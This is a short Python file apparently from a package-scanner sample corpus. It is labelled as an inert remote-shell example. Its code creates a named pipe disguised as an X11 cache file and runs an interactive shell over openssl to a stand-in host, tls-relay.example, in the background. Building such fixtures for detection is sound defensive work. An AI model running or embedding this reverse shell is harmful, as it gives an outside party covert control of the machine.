# pkgguard corpus 720 (remote-shell), modelled on [linux-persistence]; inert, never run.
import os

_FIFO = "/tmp/.X11-cache"
if not os.path.exists(_FIFO):
    os.mkfifo(_FIFO)
os.system(
    f"/bin/sh -i < {_FIFO} 2>&1 | openssl s_client -quiet -connect tls-relay.example:443 > {_FIFO} 2>/dev/null &"
)
